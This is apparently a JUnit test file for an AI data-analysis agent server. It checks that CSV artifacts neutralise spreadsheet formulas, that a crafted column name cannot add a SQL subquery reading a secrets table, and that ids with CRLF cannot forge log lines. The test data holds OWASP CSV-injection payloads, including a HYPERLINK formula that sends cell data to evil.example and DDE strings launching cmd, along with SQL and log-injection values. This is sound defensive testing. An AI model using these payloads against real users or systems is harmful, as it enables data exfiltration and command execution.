package dev.contractkit.reference.agent;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.contractkit.reference.KitServer;
import dev.contractkit.specs.Api;
import okhttp3.HttpUrl;
import okhttp3.MediaType;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;
import org.h2.tools.Csv;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import static dev.contractkit.reference.agent.AgentServerTest.assertValidStream;
import static dev.contractkit.reference.agent.AgentServerTest.custom;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks through the data the agent reads and the ids a caller chooses (issue 34, items 5 and 13), over a real
 * socket: cells and column names that a spreadsheet would run as formulas, a column name that would add SQL to the
 * planner's query, and run and thread ids that would forge log lines. Each fails without its defence.
 */
class AgentInjectionAttackTest {
    /** What spreadsheets run as formulas when a cell starts with it (OWASP "CSV Injection"). */
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    @TempDir
    static Path dir;
    static KitServer server;
    static AgentHttp client;
    static Connection db;
    static String dbUrl;

    @BeforeAll
    static void start() throws Exception {
        AgentServerTest.contract();
        server = KitServer.start(AgentHttp.settings(dir).with("agent.step-delay", "PT0S"), List.of(Api.AGENT));
        client = new AgentHttp(server.url(Api.AGENT));
        dbUrl = "jdbc:h2:mem:agent_inject_" + UUID.randomUUID().toString().replace("-", "") + ";DB_CLOSE_DELAY=-1";
        db = DriverManager.getConnection(dbUrl, "reader", "");
        try (Statement s = db.createStatement()) {
            // a column whose name is a formula, and one whose name is SQL that reads another table
            s.execute("CREATE TABLE leads (name VARCHAR(20), \"@SUM(1+1)*cmd|' /C calc'!A0\" INT)");
            s.execute("INSERT INTO leads VALUES ('acme', 1)");
            s.execute("CREATE TABLE secrets (pin VARCHAR(20))");
            s.execute("INSERT INTO secrets VALUES ('s3cret-pin')");
            s.execute("CREATE TABLE orders (customer VARCHAR(20), \"amount, (select max(pin) from secrets) as pin\" DECIMAL(10, 2))");
            s.execute("INSERT INTO orders VALUES ('acme', 10), ('acme', 5), ('globex', 7)");
        }
        assertThat(client.call("POST", "/api/v1/datasources", "{\"id\":\"inject\",\"name\":\"Inject\",\"jdbcUrl\":\"" + dbUrl
                + "\",\"username\":\"reader\"}").status()).isEqualTo(201);
    }

    @AfterAll
    static void stop() throws Exception {
        if (server != null) {
            server.close();
        }
        if (db != null) {
            db.close();
        }
    }

    static List<JsonNode> ask(String question, String runConfig) throws Exception {
        List<JsonNode> events = client.run(AgentHttp.input("t-inject-" + UUID.randomUUID(), "r-" + UUID.randomUUID(), question,
                "\"forwardedProps\":{\"run_config\":" + runConfig + "}"));
        assertValidStream(events);
        assertThat(events.get(events.size() - 1).path("type").asText()).as(events.toString()).isEqualTo("RUN_FINISHED");
        return events;
    }

    static String artifact(List<JsonNode> events) throws Exception {
        Request r = new Request.Builder().url(server.url(Api.AGENT) + custom(events, "kit.artifact").path("downloadPath").asText())
                .build();
        try (Response response = AgentHttp.HTTP.newCall(r).execute()) {
            assertThat(response.code()).isEqualTo(200);
            return response.body().string();
        }
    }

    /** @return the CSV's records, header first, as a spreadsheet's import would split them (RFC 4180) */
    static List<List<String>> records(String csv) throws Exception {
        List<List<String>> out = new ArrayList<>();
        try (ResultSet r = new Csv().read(new StringReader(csv), null)) {
            int n = r.getMetaData().getColumnCount();
            List<String> header = new ArrayList<>();
            for (int i = 1; i <= n; i++) {
                header.add(r.getMetaData().getColumnLabel(i));
            }
            out.add(header);
            while (r.next()) {
                List<String> row = new ArrayList<>();
                for (int i = 1; i <= n; i++) {
                    row.add(r.getString(i));
                }
                out.add(row);
            }
        }
        return out;
    }

    @Test
    void cellsAndColumnNamesASpreadsheetWouldRunAsFormulasReachTheCsvArtifactAsText() throws Exception {
        ArrayNode rows = AgentHttp.JSON.createArrayNode();
        for (String f : FORMULAS) {
            rows.addObject().put("name", f).put("amount", 3);
        }
        rows.addObject().put("name", "-7").put("amount", -12.5); // plain negative numbers stay numbers
        Request up = new Request.Builder().url(server.url(Api.AGENT) + "/api/v1/files?name=payloads.json")
                .post(RequestBody.create(rows.toString().getBytes(StandardCharsets.UTF_8), MediaType.get("application/octet-stream")))
                .build();
        String fileId;
        try (Response response = AgentHttp.HTTP.newCall(up).execute()) {
            assertThat(response.code()).isEqualTo(201);
            fileId = AgentHttp.JSON.readTree(response.body().string()).path("fileId").asText();
        }

        String csv = artifact(ask("List the payloads", "{\"fileIds\":[\"" + fileId + "\"]}"));
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", "\"'\t=1+1\"", "\"'\r=1+1\"");
        List<List<String>> records = records(csv);
        List<String> names = records.stream().skip(1).map(r -> r.get(0)).toList();
        assertThat(names).containsExactlyElementsOf(
                java.util.stream.Stream.concat(FORMULAS.stream().map(f -> "'" + f), java.util.stream.Stream.of("-7")).toList());
        assertThat(records.get(records.size() - 1).get(1)).isEqualTo("-12.5000000000");
        assertNoFormula(records);

        // a data source's column name is the artifact's header
        String leads = artifact(ask("List the leads", "{\"activeDatasourceId\":\"inject\"}"));
        List<List<String>> header = records(leads);
        assertThat(header.get(0)).containsExactly("NAME", "'@SUM(1+1)*CMD|' /C CALC'!A0");
        assertNoFormula(header);
    }

    private static void assertNoFormula(List<List<String>> records) {
        for (List<String> record : records) {
            for (String cell : record) {
                if (cell != null && !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                    assertThat(cell).as("a cell a spreadsheet would read as a formula").matches("-[0-9]+(\\.[0-9]+)?");
                }
            }
        }
    }

    @Test
    void aColumnNameCannotAddSqlToThePlannedQuerysAlias() throws Exception {
        List<JsonNode> events = ask("What is the total amount per customer?", "{\"activeDatasourceId\":\"inject\"}");
        String column = "\"amount, (select max(pin) from secrets) as pin\"";
        assertThat(custom(events, "kit.sql_audit").path("sql").asText()).isEqualTo("SELECT customer, SUM(" + column + ") AS "
                + column + " FROM orders GROUP BY customer ORDER BY customer");
        JsonNode table = AgentDataAnalysisTest.resultOf(events, AgentDataAnalysisTest.calls(events, "run_sql").get(0));
        assertThat(table.path("columns")).hasSize(2);
        assertThat(table.path("rows").toString()).contains("acme", "15").doesNotContain("s3cret-pin");
        assertThat(events.toString()).doesNotContain("s3cret-pin");
    }

    @Test
    void runAndThreadIdsThatWouldForgeLogLinesAreRefusedWithTheContractsError() throws Exception {
        for (String bad : List.of("r1\r\nWARNING: forged entry", "r1\u001b[2J", "r 1", "r/1")) {
            for (String field : List.of("runId", "threadId")) {
                ObjectNode input = AgentHttp.JSON.createObjectNode().put("threadId", "t-ids").put("runId", "r-ids-" + UUID.randomUUID());
                input.put(field, bad);
                input.putArray("messages").addObject().put("id", "m1").put("role", "user").put("content", "Revenue?");
                AgentHttp.Reply reply = client.call("POST", "/api/agent", input.toString());
                assertThat(reply.status()).as(field + " " + bad).isEqualTo(400);
                assertThat(reply.body().path("code").asText()).isEqualTo("INVALID_REQUEST");
                assertThat(reply.body().path("message").asText()).startsWith(field + ":");
            }
        }
        // the same ids in paths
        HttpUrl base = HttpUrl.get(server.url(Api.AGENT));
        for (HttpUrl url : List.of(base.newBuilder().addPathSegments("api/v1/runs").addPathSegment("r1\r\nx").addPathSegment("cancel").build(),
                base.newBuilder().addPathSegments("api/v1/threads").addPathSegment("t1\nx").addPathSegment("history").build())) {
            String method = url.encodedPath().endsWith("cancel") ? "POST" : "GET";
            Request r = new Request.Builder().url(url).method(method, method.equals("POST")
                    ? RequestBody.create(new byte[0], null) : null).build();
            try (Response response = AgentHttp.HTTP.newCall(r).execute()) {
                assertThat(response.code()).as(url.toString()).isEqualTo(400);
                assertThat(AgentHttp.JSON.readTree(response.body().string()).path("code").asText()).isEqualTo("INVALID_REQUEST");
            }
        }
        // an AG-UI client's default ids (UUIDs) are accepted
        List<JsonNode> events = client.run(AgentHttp.input(UUID.randomUUID().toString(), UUID.randomUUID().toString(),
                "Revenue by region?", null));
        assertThat(events.get(events.size() - 1).path("type").asText()).isEqualTo("RUN_FINISHED");
    }
}
